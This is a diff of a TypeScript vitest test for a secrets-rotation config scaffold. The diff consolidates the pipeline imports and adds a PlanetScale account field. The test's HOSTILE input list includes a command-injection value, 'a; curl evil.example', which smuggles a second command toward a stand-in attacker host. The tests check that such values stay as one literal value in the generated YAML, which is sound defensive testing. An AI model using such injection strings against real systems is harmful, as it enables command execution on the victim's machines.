@@ -1,10 +1,9 @@
+import planetscale from '@keyturn/issuer-planetscale';
 import { describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
 
 import { configText } from '../../src/scaffold/config.ts';
-import { circleciPipeline } from '../../src/scaffold/pipeline/circleci.ts';
-import { githubPipeline } from '../../src/scaffold/pipeline/github.ts';
-import { gitlabPipeline } from '../../src/scaffold/pipeline/gitlab.ts';
+import { circleciPipeline, githubPipeline, gitlabPipeline } from './made-pipelines.ts';
 
 const HOSTILE = [
   'a; curl evil.example',
@@ -56,12 +55,13 @@ describe.each([githubPipeline, gitlabPipeline, circleciPipeline])('%o', (pipelin
 });
 
 describe('a new configuration', () => {
+  const { account } = planetscale;
   const layout = { kind: 'pair', names: { id: ['X'], token: ['Y'] } } as const;
   const defaults = { pair: { id: 'A', token: 'B' }, joined: 'J', file: 'F', slot: 'S' };
 
   it.each(HOSTILE)('keeps %j as one value', (text) => {
     const addition = { rotation: text, isNew: true, layout, sinks: [text] };
-    const wanted = { issuer: 'planetscale', org: text, maxAge: text, grace: text };
+    const wanted = { issuer: 'planetscale', account, org: text, maxAge: text, grace: text };
     expect(parse(configText(wanted, [addition], defaults))).toEqual({
       issuer: { kind: 'planetscale', org: text },
       rotations: {
